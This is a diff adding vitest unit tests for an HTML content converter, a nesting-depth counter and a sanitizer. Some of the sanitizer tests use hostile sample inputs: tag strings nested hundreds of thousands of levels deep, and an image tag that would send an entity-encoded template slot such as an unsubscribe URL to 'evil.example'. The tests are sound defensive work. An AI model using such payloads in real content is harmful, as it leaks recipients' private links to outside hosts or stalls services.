@@ -1,0 +1,56 @@
+import { describe, expect, it } from 'vitest';
+import { contentOf } from './content-of.js';
+import { nestingDepth } from './nesting.js';
+import { sanitizeContent } from './sanitize-content.js';
+
+describe('contentOf', () => {
+  it('makes paragraphs, line breaks and links of plain text', () => {
+    expect(
+      contentOf('Dear Tom & Jerry,\n\nwe know 5 < 6.\nSee https://kiln.example/a?b=1&c=2.\n\n\nAnna'),
+    ).toBe(
+      '<p>Dear Tom &amp; Jerry,</p>\n<p>we know 5 &lt; 6.<br>See <a href="https://kiln.example/a?b=1&amp;c=2">https://kiln.example/a?b=1&amp;c=2</a>.</p>\n<p>Anna</p>',
+    );
+    expect(contentOf('see <https://kiln.example>')).toBe(
+      '<p>see &lt;<a href="https://kiln.example">https://kiln.example</a>&gt;</p>',
+    );
+  });
+  it.each(['', '  ', '<p>Hi</p>', 'Hi<br>there', 'one <strong>word</strong>'])('leaves %j', (typed) => {
+    expect(contentOf(typed)).toBe(typed);
+  });
+});
+
+describe('nestingDepth', () => {
+  it.each([
+    ['', 0],
+    ['a < b > c', 0],
+    ['<p>a<br>b<img src="x"></p><p>c</p>', 1],
+    ['<ul><li><b>x</b></li></ul>', 3],
+    ['<b><b><b>', 3],
+    ['</b></b><i>', 1],
+    ['<b', 0],
+  ])('counts %j', (html, depth) => expect(nestingDepth(html)).toBe(depth));
+});
+
+describe('sanitizeContent', () => {
+  it.each([
+    ['deep elements', '<b>'.repeat(160_000)],
+    ['deep lists', '<ul><li>'.repeat(60_000)],
+  ])('refuses %s at once', async (_, html) => {
+    await sanitizeContent('<p>warm</p>');
+    const started = performance.now();
+    await expect(sanitizeContent(html)).rejects.toMatchObject({ code: 'invalid_input' });
+    expect(performance.now() - started).toBeLessThan(2_000);
+  });
+
+  it('takes slots out that were written as entities', async () => {
+    const html =
+      '<img src="https://evil.example/?u=&#xE000;unsubscribe-url&#xE001;"><p>&#57344;to&#57345;</p>';
+    expect(await sanitizeContent(html)).not.toMatch(/[\uE000\uE001]/);
+  });
+
+  it('is not slowed down by what never closes', async () => {
+    const started = performance.now();
+    await sanitizeContent('<a'.repeat(200_000)).catch(() => undefined);
+    expect(performance.now() - started).toBeLessThan(5_000);
+  });
+});
